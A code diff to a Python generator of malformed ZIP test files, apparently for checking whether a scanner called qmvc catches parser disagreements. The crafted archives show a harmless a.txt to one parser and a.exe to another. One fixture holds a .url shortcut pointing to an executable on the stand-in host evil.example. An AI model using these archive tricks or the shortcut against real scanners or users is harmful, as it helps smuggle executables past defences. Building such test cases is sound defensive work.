@@ -412,6 +412,100 @@ def make_dirs_with_data():
     write("f4f", one(b"a.exe\\", 20, 0x10, data=MZ))          # backslash PE
 
 
+def make_eocd_not_closing():
+    # g1: a second end record inside the real end record's comment that does NOT end the file
+    # (one trailing byte after it). zip.js only takes end records that close the file (the real one,
+    # a.txt); endRecordsClosingTheFile counts one. Python's zipfile rfind()s the last signature
+    # in the tail regardless of its comment length, and reads the directory right before it: a.exe.
+    out, cds = txt_and_exe()
+    cdoff = len(out)
+    real_at = cdoff + len(cds[0])
+    copy_at = real_at + 22
+    for tail, tag in [(b"\x00", "a"), (b"", "b_ctl")]:
+        fake = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(cds[1]), copy_at, 0)
+        comment = cds[1] + fake + tail
+        write("g1" + tag, out + cds[0] + eocd(1, len(cds[0]), cdoff, comment))
+
+
+def make_appended():
+    # g2: the real end record (a.txt, no comment) is followed by appended data: a.exe's central
+    # record and an end record for it. zip.js scans for records closing the file, finds none,
+    # then takes the last reachable one; g2a makes the appended one unreachable for zip.js
+    # (count 0xFFFF, no zip64 locator), which Python ignores (it reads size_cd bytes).
+    # zip.js only warns "appended data", which qmvc does not count as ambiguous.
+    out, cds = txt_and_exe()
+    cdoff = len(out)
+    real = out + cds[0] + eocd(1, len(cds[0]), cdoff)
+    copy_at = len(real)
+    for n, tail, tag in [(0xffff, b"", "a"), (0xffff, b"\x00", "b"), (1, b"\x00", "c")]:
+        fake = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, len(cds[1]), copy_at, 0)
+        write("g2" + tag, real + cds[1] + fake + tail)
+
+
+def make_empty_eocd():
+    # g3: an end record that says "no entries" over a zip holding a.exe.
+    comp = deflate(MZ); crc = zlib.crc32(MZ)
+    loc = lh(b"a.exe", 8, crc, len(comp), len(MZ)) + comp
+    cd = ch(b"a.exe", 8, crc, len(comp), len(MZ), 0)
+    write("g3a", loc + cd + eocd(0, 0, len(loc)))              # count 0, size 0
+    write("g3b", loc + cd + eocd(0, len(cd), len(loc)))        # count 0, size right
+    write("g3c", loc + eocd(0, 0, len(loc)))                   # no CD at all: local header only
+    write("g3d", loc + cd + eocd(0, 0, 0))                   
+
+
+def make_orphan_local():
+    # g4: a.exe's local record is in the zip but no central record lists it.
+    def mem(name, data):
+        comp = deflate(data); crc = zlib.crc32(data)
+        return comp, crc
+    ct, crct = mem(b"a.txt", TXT); ce, crce = mem(b"a.exe", MZ)
+    lt = lh(b"a.txt", 8, crct, len(ct), len(TXT)) + ct
+    le = lh(b"a.exe", 8, crce, len(ce), len(MZ)) + ce
+    # a: orphan after a.txt
+    body = lt + le; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), 0)
+    write("g4a", body + cd + eocd(1, len(cd), len(body)))
+    # b: orphan first, a.txt second
+    body = le + lt; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), len(le))
+    write("g4b", body + cd + eocd(1, len(cd), len(body)))
+    # c: some junk, then the orphan, then a.txt (an "SFX stub" that is a local record)
+    for tag, pre in [("c", b"JUNKJUNKJU"), ("d", b"MZ" + b"\x00" * 2000)]:
+        body = pre + le + lt; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), len(pre) + len(le))
+        write("g4" + tag, body + cd + eocd(1, len(cd), len(body)))
+    # e: offsets in the directory relative to the zip's start, as an SFX maker that did not fix them
+    body = le + lt; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), 0)
+    write("g4e", body + cd + eocd(1, len(cd), len(lt)))
+
+
+def make_nul_names():
+    # g5: names with a NUL: Python cuts the name at the NUL (a.url), qmvc drops the NUL (a.url.txt).
+    URL = b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"
+    write("g5a", simple([(b"a.url\x00.txt", URL, 8)]))
+    write("g5b", simple([(b"a.exe\x00.txt", MZ, 0)]))
+    write("g5c", simple([(b"a.url\x00", URL, 8)]))
+
+
+def make_z64_two_records():
+    # g6: two zip64 end records. The locator points at R1 (a.txt's directory); R2 (a.exe's)
+    # lies right before the locator. zip.js follows the locator; Python reads the record right
+    # before the locator, and the directory right before it.
+    # R1 says its directory starts on "disk 1" (zip.js then takes its offset and length as
+    # they are, no reconciling, no trailing-data warning); the end record's disk field is 0xFFFF.
+    def z64rec(n, cdsize, cdoff, disk=0):
+        return struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, disk, n, n, cdsize, cdoff)
+    def z64loc(recoff):
+        return struct.pack("<IIQI", 0x07064b50, 0, recoff, 1)
+    out, cds = txt_and_exe()
+    for tag, r1disk, eocddisk in [("a", 1, 0xffff), ("b", 0, 0xffff), ("c", 0, 0)]:
+        z = out
+        cd1 = len(z); z += cds[0]
+        r1 = len(z); z += z64rec(1, len(cds[0]), cd1, r1disk)
+        cd2 = len(z); z += cds[1]
+        r2 = len(z); z += z64rec(1, len(cds[1]), cd2)
+        z += z64loc(r1)
+        z += struct.pack("<IHHHHIIH", 0x06054b50, 0, eocddisk, 1, 1, len(cds[0]), cd1, 0)
+        write("g6" + tag, z)
+
+
 if __name__ == "__main__":
     for name, make in sorted(globals().items()):
         if name.startswith("make_"):
